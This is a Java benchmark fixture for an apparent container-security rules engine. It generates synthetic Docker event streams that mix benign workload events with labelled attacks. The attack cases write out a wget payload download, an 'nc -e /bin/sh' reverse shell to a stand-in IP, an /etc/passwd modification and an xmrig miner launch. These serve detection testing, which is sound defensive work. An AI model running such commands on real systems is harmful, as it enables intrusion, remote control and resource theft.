package dev.vigil.bench;

import dev.vigil.event.ContainerLifecycle;
import dev.vigil.event.ContainerRef;
import dev.vigil.event.Event;
import dev.vigil.event.ExecOrigin;
import dev.vigil.event.FileChange;
import dev.vigil.event.LogLine;
import dev.vigil.event.ProcessExec;
import dev.vigil.event.StatsSample;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * Pre-built event streams for the rules benchmarks, deterministic for a seed. The realistic mix is what a Docker host
 * running an ordinary web application sends the engine: process starts (about 40%), file changes (20%), log lines
 * (30%), stats samples (5%) and container life-cycle events (5%), of which about 0.5% are attacks that the default
 * rules must flag (wget, {@code nc -e}, a write to /etc/passwd, an nmap report in a log). Benign events include the
 * near misses that real workloads have: HEALTHCHECK curls, writes to /etc/hosts, "virus scan report" lines.
 */
final class EventMix {

  /** The kinds of event in a mix, for its summary. */
  enum Kind {
    EXEC, FILE, LOG, STATS, LIFECYCLE
  }

  /**
   * A stream of events to cycle through.
   *
   * @param attack true at the indexes of events that the default rules must match; all others must not match
   */
  record Mix(Event[] events, boolean[] attack, Map<Kind, Integer> counts) {

    int attacks() {
      int n = 0;
      for (boolean a : attack) {
        n += a ? 1 : 0;
      }
      return n;
    }

    String summary() {
      StringBuilder sb = new StringBuilder().append(events.length).append(" events:");
      counts.forEach((k, v) -> sb.append(' ').append(k.name().toLowerCase(Locale.ROOT)).append('=').append(v)
          .append(String.format(Locale.ROOT, " (%.1f%%)", 100.0 * v / events.length)));
      return sb.append(String.format(Locale.ROOT, "; attacks=%d (%.2f%%)", attacks(),
          100.0 * attacks() / events.length)).toString();
    }
  }

  private static final Instant T0 = Instant.parse("2025-11-29T09:05:00Z");

  private final Random rnd;
  private final List<ContainerRef> containers;
  private int seq;

  private EventMix(Containers containers, long seed) {
    this.rnd = new Random(seed);
    this.containers = containers.refs();
  }

  /** The realistic mix of {@code n} events. */
  static Mix realistic(Containers containers, int n, long seed) {
    EventMix g = new EventMix(containers, seed);
    int attacks = Math.max(4, Math.round(n * 0.005f));
    int benign = n - attacks;
    int execs = Math.round(benign * 0.40f);
    int files = Math.round(benign * 0.20f);
    int logs = Math.round(benign * 0.30f);
    int stats = Math.round(benign * 0.05f);
    int lifecycle = benign - execs - files - logs - stats;
    List<Event> events = new ArrayList<>(n);
    List<Boolean> attack = new ArrayList<>(n);
    for (int i = 0; i < attacks; i++) {
      events.add(g.attack(i % 4));
      attack.add(Boolean.TRUE);
    }
    for (int i = 0; i < execs; i++) {
      events.add(g.exec());
    }
    for (int i = 0; i < files; i++) {
      events.add(g.file());
    }
    for (int i = 0; i < logs; i++) {
      events.add(g.log());
    }
    for (int i = 0; i < stats; i++) {
      events.add(g.stats());
    }
    for (int i = 0; i < lifecycle; i++) {
      events.add(g.lifecycle());
    }
    while (attack.size() < events.size()) {
      attack.add(Boolean.FALSE);
    }
    return shuffled(events, attack, g.rnd);
  }

  /** The worst case for the rules: {@code n} benign log lines, each tested by the log rule's seven substrings. */
  static Mix logLines(Containers containers, int n, long seed) {
    EventMix g = new EventMix(containers, seed);
    List<Event> events = new ArrayList<>(n);
    List<Boolean> attack = new ArrayList<>(n);
    for (int i = 0; i < n; i++) {
      events.add(g.log());
      attack.add(Boolean.FALSE);
    }
    return shuffled(events, attack, g.rnd);
  }

  private static Mix shuffled(List<Event> events, List<Boolean> attack, Random rnd) {
    List<Integer> order = new ArrayList<>(events.size());
    for (int i = 0; i < events.size(); i++) {
      order.add(i);
    }
    Collections.shuffle(order, rnd);
    Event[] es = new Event[events.size()];
    boolean[] as = new boolean[events.size()];
    Map<Kind, Integer> counts = new EnumMap<>(Kind.class);
    for (int i = 0; i < es.length; i++) {
      es[i] = events.get(order.get(i));
      as[i] = attack.get(order.get(i));
      counts.merge(kindOf(es[i]), 1, Integer::sum);
    }
    return new Mix(es, as, counts);
  }

  static Kind kindOf(Event e) {
    switch (e.kind()) {
      case PROCESS_EXEC:
        return Kind.EXEC;
      case FILE_CHANGE:
        return Kind.FILE;
      case LOG_LINE:
        return Kind.LOG;
      case STATS:
        return Kind.STATS;
      default:
        return Kind.LIFECYCLE;
    }
  }

  // ------------------------------------------------------------------ helpers

  private Instant time() {
    return T0.plusNanos(1_000_000L * seq++ + rnd.nextInt(1_000_000));
  }

  private ContainerRef container() {
    return containers.get(rnd.nextInt(containers.size()));
  }

  private <T> T pick(List<T> items) {
    return items.get(rnd.nextInt(items.size()));
  }

  private String hex(int chars) {
    StringBuilder sb = new StringBuilder(chars);
    for (int i = 0; i < chars; i++) {
      sb.append(Character.forDigit(rnd.nextInt(16), 16));
    }
    return sb.toString();
  }

  private String uuid() {
    return hex(8) + "-" + hex(4) + "-4" + hex(3) + "-a" + hex(3) + "-" + hex(12);
  }

  private String ip() {
    return "172.18.0." + (2 + rnd.nextInt(40));
  }

  private long pid() {
    return 100 + rnd.nextInt(60_000);
  }

  private static ProcessExec.Ancestor anc(long pid, String cmdline) {
    int sp = cmdline.indexOf(' ');
    return new ProcessExec.Ancestor(pid, sp < 0 ? cmdline : cmdline.substring(0, sp), cmdline);
  }

  private ProcessExec proc(String name, String exe, List<String> args, ExecOrigin origin, String user,
      List<ProcessExec.Ancestor> ancestors) {
    long pid = pid();
    long ppid = ancestors.isEmpty() ? 0 : ancestors.get(0).pid();
    String execId = origin == ExecOrigin.DOCKER_EXEC || origin == ExecOrigin.HEALTHCHECK ? hex(64) : "";
    return new ProcessExec(time(), container(), "docker.events", pid, ppid, name, exe, args,
        user.equals("root") ? 0 : 1000, user, "", origin, execId, ancestors);
  }

  // ------------------------------------------------------------------ process starts

  private static final List<String> CRON_PARENTS = List.of("crond -f -l 8", "supervisord -c /etc/supervisord.conf",
      "tini -- /app/bin/entrypoint.sh", "s6-supervise worker");

  ProcessExec exec() {
    int r = rnd.nextInt(100);
    String parent = pick(CRON_PARENTS);
    List<ProcessExec.Ancestor> viaSh = List.of(anc(pid(), "sh -c /app/bin/job.sh"), anc(pid(), parent));
    if (r < 12) {
      String cmd = pick(List.of("/app/bin/rotate-uploads.sh --keep 30", "date +%s > /app/tmp/heartbeat",
          "node /app/dist/jobs/report.js --daily", "python3 -m worker.tasks.cleanup --older-than 7d",
          "cat /proc/loadavg", "ls /app/uploads/2025/11 | wc -l"));
      return proc("sh", "/bin/sh", List.of("/bin/sh", "-c", cmd), ExecOrigin.CONTAINER, "app",
          List.of(anc(pid(), parent)));
    }
    if (r < 22) {
      // A HEALTHCHECK: sh -c "curl ..." then curl; curl is a download tool, but health probes are excluded.
      return rnd.nextBoolean()
          ? proc("sh", "/bin/sh", List.of("/bin/sh", "-c", "curl -fsS http://localhost:8080/healthz || exit 1"),
              ExecOrigin.HEALTHCHECK, "root", List.of())
          : proc("curl", "/usr/bin/curl", List.of("curl", "-fsS", "http://localhost:8080/healthz"),
              ExecOrigin.HEALTHCHECK, "root", List.of(anc(pid(), "sh -c curl -fsS http://localhost:8080/healthz")));
    }
    if (r < 34) {
      return proc("node", "/usr/local/bin/node", List.of("node", pick(List.of("/app/dist/jobs/report.js",
          "/app/dist/jobs/sitemap.js", "/app/dist/workers/thumbnail.js")), "--tenant=" + rnd.nextInt(40),
          "--max-old-space-size=512"), ExecOrigin.CONTAINER, "app", viaSh);
    }
    if (r < 46) {
      return proc("python3", "/usr/local/bin/python3.12", List.of("python3", "-m", pick(List.of(
          "worker.tasks.cleanup", "worker.tasks.send_digest", "worker.tasks.reindex")), "--batch-size",
          Integer.toString(100 + rnd.nextInt(900))), ExecOrigin.CONTAINER, "app", viaSh);
    }
    if (r < 58) {
      boolean exec = rnd.nextBoolean();
      return proc("ls", "/bin/ls", List.of("ls", "-la", pick(List.of("/app/uploads/2025/11", "/app/logs",
          "/tmp", "/var/cache/nginx"))), exec ? ExecOrigin.DOCKER_EXEC : ExecOrigin.CONTAINER, "root",
          exec ? List.of() : viaSh);
    }
    if (r < 70) {
      boolean exec = rnd.nextBoolean();
      return proc("cat", "/bin/cat", List.of("cat", pick(List.of("/proc/meminfo", "/app/config/settings.yaml",
          "/proc/self/cgroup", "/app/logs/app.log", "/sys/fs/cgroup/memory.max"))),
          exec ? ExecOrigin.DOCKER_EXEC : ExecOrigin.CONTAINER, exec ? "root" : "app", exec ? List.of() : viaSh);
    }
    if (r < 76) {
      return proc("grep", "/bin/grep", List.of("grep", "-c", "ERROR", "/app/logs/app.log"), ExecOrigin.CONTAINER,
          "app", viaSh);
    }
    if (r < 82) {
      return proc("sleep", "/bin/sleep", List.of("sleep", Integer.toString(5 + rnd.nextInt(60))),
          ExecOrigin.CONTAINER, "app", viaSh);
    }
    if (r < 86) {
      return proc("gzip", "/bin/gzip", List.of("gzip", "-9", "/app/logs/app.log." + (1 + rnd.nextInt(7))),
          ExecOrigin.CONTAINER, "app", List.of(anc(pid(), "logrotate /etc/logrotate.conf"), anc(pid(), parent)));
    }
    if (r < 90) {
      return proc("find", "/usr/bin/find", List.of("find", "/tmp", "-type", "f", "-mmin", "+60", "-delete"),
          ExecOrigin.CONTAINER, "app", viaSh);
    }
    if (r < 94) {
      return proc("bash", "/bin/bash", List.of("bash", "/app/bin/rotate-uploads.sh", "--keep", "30"),
          ExecOrigin.CONTAINER, "app", List.of(anc(pid(), parent)));
    }
    if (r < 97) {
      return proc("pg_isready", "/usr/lib/postgresql/16/bin/pg_isready", List.of("pg_isready", "-U", "shop"),
          ExecOrigin.HEALTHCHECK, "postgres", List.of(anc(pid(), "sh -c pg_isready -U shop")));
    }
    return proc("ps", "/bin/ps", List.of("ps", "aux"), ExecOrigin.DOCKER_EXEC, "root", List.of());
  }

  // ------------------------------------------------------------------ file changes

  FileChange file() {
    int r = rnd.nextInt(100);
    String path;
    FileChange.Kind kind = rnd.nextInt(100) < 70 ? FileChange.Kind.ADDED : FileChange.Kind.MODIFIED;
    if (r < 40) {
      path = pick(List.of("/tmp/upload_" + hex(16) + ".part", "/tmp/pymp-" + hex(8) + "/listener-" + hex(8),
          "/tmp/node-compile-cache/v20.18.0-x64/" + hex(8), "/tmp/tmp" + hex(8) + "/report.csv"));
      if (rnd.nextInt(100) < 30) {
        kind = FileChange.Kind.DELETED;
      }
    } else if (r < 75) {
      path = pick(List.of("/app/logs/app.log", "/app/uploads/2025/11/" + uuid() + ".jpg",
          "/app/.cache/thumbnails/" + hex(2) + "/" + hex(32) + ".webp", "/app/tmp/pids/server.pid",
          "/app/uploads/2025/11/" + uuid() + ".pdf"));
      if (path.startsWith("/app/tmp") && rnd.nextBoolean()) {
        kind = FileChange.Kind.DELETED;
      }
    } else if (r < 90) {
      path = pick(List.of("/var/cache/nginx/client_temp/" + String.format("%010d", rnd.nextInt(1_000_000)),
          "/var/log/nginx/access.log", "/var/log/nginx/error.log", "/run/nginx.pid", "/var/run/redis_6379.pid"));
      if (path.startsWith("/var/log")) {
        kind = FileChange.Kind.MODIFIED;
      }
    } else if (r < 95) {
      path = pick(List.of("/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/etc/mtab"));
      kind = FileChange.Kind.MODIFIED;
    } else {
      path = pick(List.of("/root/.cache/pip/http/" + hex(1) + "/" + hex(40), "/home/app/.npm/_logs/2025-11-29T09_"
          + hex(6) + "-debug-0.log", "/root/.ash_history"));
    }
    return new FileChange(time(), container(), "docker.diff", path, kind);
  }

  // ------------------------------------------------------------------ log lines

  private static final List<String> AGENTS = List.of(
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
      "curl/8.5.0", "kube-probe/1.31", "python-requests/2.32.3");
  private static final List<String> PATHS = List.of("/api/v1/orders", "/api/v1/cart/items", "/api/v1/products",
      "/static/js/main.3f9c1a.js", "/api/v1/users/me", "/healthz", "/api/v1/search", "/images/banner-winter.webp");
  private static final List<String> NAMES = List.of("Zoë Müller", "José Álvarez", "Ana Lima", "Sam Taylor",
      "Łukasz Nowak", "Chen Wei");

  LogLine log() {
    int r = rnd.nextInt(100);
    String t = String.format(Locale.ROOT, "2025-11-29T09:%02d:%02d.%03dZ", rnd.nextInt(60), rnd.nextInt(60),
        rnd.nextInt(1000));
    String line;
    LogLine.Stream stream = LogLine.Stream.STDOUT;
    if (r < 30) {
      line = String.format(Locale.ROOT, "%s - - [29/Nov/2025:09:%02d:%02d +0000] \"%s %s/%d HTTP/1.1\" %d %d \"-\" \"%s\"",
          ip(), rnd.nextInt(60), rnd.nextInt(60), rnd.nextInt(5) == 0 ? "POST" : "GET", pick(PATHS),
          rnd.nextInt(100_000), rnd.nextInt(20) == 0 ? 404 : 200, 200 + rnd.nextInt(40_000), pick(AGENTS));
    } else if (r < 55) {
      line = String.format(Locale.ROOT, "{\"level\":30,\"time\":%d,\"pid\":1,\"hostname\":\"%s\",\"reqId\":\"req-%s\","
          + "\"req\":{\"method\":\"GET\",\"url\":\"%s?page=%d\"},\"res\":{\"statusCode\":200},\"responseTime\":%.1f,"
          + "\"msg\":\"request completed\"}", 1_764_407_100_000L + rnd.nextInt(1_000_000), hex(12), hex(4),
          pick(PATHS), rnd.nextInt(50), rnd.nextDouble() * 80);
    } else if (r < 70) {
      line = String.format(Locale.ROOT, "%s INFO [worker.tasks] Task worker.tasks.send_digest[%s] succeeded in "
          + "%.3fs: {'sent': %d, 'skipped': %d}", t, uuid(), rnd.nextDouble() * 4, rnd.nextInt(500),
          rnd.nextInt(20));
    } else if (r < 80) {
      line = String.format(Locale.ROOT, "%s UTC [%d] LOG:  duration: %.3f ms  statement: SELECT id, status, total "
          + "FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT %d", t.replace('T', ' '),
          40 + rnd.nextInt(200), rnd.nextDouble() * 300, 10 + rnd.nextInt(40));
    } else if (r < 88) {
      stream = LogLine.Stream.STDERR;
      line = String.format(Locale.ROOT, "%s WARN  [pool-2-thread-%d] c.e.shop.inventory.StockClient : Retrying "
          + "GET http://inventory:8080/api/stock/SKU-%05d after %dms (attempt %d/5): java.net.SocketTimeoutException:"
          + " Read timed out", t, 1 + rnd.nextInt(8), rnd.nextInt(100_000), 100 * (1 + rnd.nextInt(5)),
          1 + rnd.nextInt(4));
    } else if (r < 93) {
      line = String.format(Locale.ROOT, "%s INFO  user \"%s\" updated profile (locale=de-DE, session=%s, "
          + "ip=%s)", t, pick(NAMES), hex(24), ip());
    } else if (r < 96) {
      line = String.format(Locale.ROOT, "%s INFO  [clamd] Virus scan report: /app/uploads/2025/11/%s.pdf: OK "
          + "(scanned %d kB in %d ms, 0 threats found)", t, uuid(), 10 + rnd.nextInt(9000), rnd.nextInt(400));
    } else {
      line = String.format(Locale.ROOT, "%d:M 29 Nov 2025 09:%02d:%02d.%03d * %d changes in 300 seconds. Saving... "
          + "Background saving started by pid %d; RDB: %d MB of memory used by copy-on-write", 1, rnd.nextInt(60),
          rnd.nextInt(60), rnd.nextInt(1000), 10 + rnd.nextInt(1000), pid(), rnd.nextInt(40));
    }
    return logLine(line, stream);
  }

  private LogLine logLine(String text, LogLine.Stream stream) {
    String line = text;
    while (line.length() < 80) {
      line = line + " trace_id=" + hex(32);
    }
    if (line.length() > 300) {
      line = line.substring(0, 300);
    }
    return new LogLine(time(), container(), "docker.logs", stream, line, false,
        line.getBytes(java.nio.charset.StandardCharsets.UTF_8).length);
  }

  // ------------------------------------------------------------------ stats and life cycle

  StatsSample stats() {
    long limit = 1L << 30;
    return new StatsSample(time(), container(), "docker.stats", rnd.nextDouble() * 60,
        (64L << 20) + rnd.nextInt(400 << 20), limit, 1_000_000L + rnd.nextInt(1 << 30),
        500_000L + rnd.nextInt(1 << 30), rnd.nextDouble() * 200_000, rnd.nextDouble() * 100_000,
        rnd.nextInt(1 << 28), rnd.nextInt(1 << 28), 5 + rnd.nextInt(60));
  }

  ContainerLifecycle lifecycle() {
    ContainerRef c = container();
    int r = rnd.nextInt(100);
    String action;
    String detail = "";
    if (r < 25) {
      action = "exec_create";
      detail = "/bin/sh -c curl -fsS http://localhost:8080/healthz || exit 1";
    } else if (r < 50) {
      action = "exec_start";
      detail = "/bin/sh -c curl -fsS http://localhost:8080/healthz || exit 1";
    } else if (r < 70) {
      action = "exec_die";
    } else if (r < 85) {
      action = "health_status";
      detail = "healthy";
    } else {
      action = pick(List.of("create", "start", "die", "stop", "kill", "destroy"));
    }
    Map<String, String> attrs = action.equals("exec_die")
        ? Map.of("image", c.image(), "name", c.name(), "execID", hex(64), "exitCode", "0")
        : Map.of("image", c.image(), "name", c.name(), "com.docker.compose.project", "shop");
    return new ContainerLifecycle(time(), c, "docker.events", action, detail, attrs);
  }

  // ------------------------------------------------------------------ attacks

  Event attack(int which) {
    switch (which) {
      case 0:
        return proc("wget", "/usr/bin/wget", List.of("wget", "-q", "-O", "/tmp/.x", "http://203.0.113.7/x86_64"),
            ExecOrigin.DOCKER_EXEC, "root", List.of(anc(pid(), "sh")));
      case 1:
        return proc("nc", "/usr/bin/nc", List.of("nc", "-e", "/bin/sh", "198.51.100.23", "4444"),
            ExecOrigin.CONTAINER, "app", List.of(anc(pid(), "sh -c nc -e /bin/sh 198.51.100.23 4444"),
                anc(pid(), "node dist/server.js")));
      case 2:
        return new FileChange(time(), container(), "docker.diff", "/etc/passwd", FileChange.Kind.MODIFIED);
      default:
        // Scanner output in logs is the log-signature detector's, not a rule's (LogSignatureBenchmark measures it).
        return proc("xmrig", "/tmp/xmrig", List.of("/tmp/xmrig", "-o", "stratum+tcp://" + ip() + ":3333"),
            ExecOrigin.CONTAINER, "app", List.of(anc(pid(), "sh")));
    }
  }
}
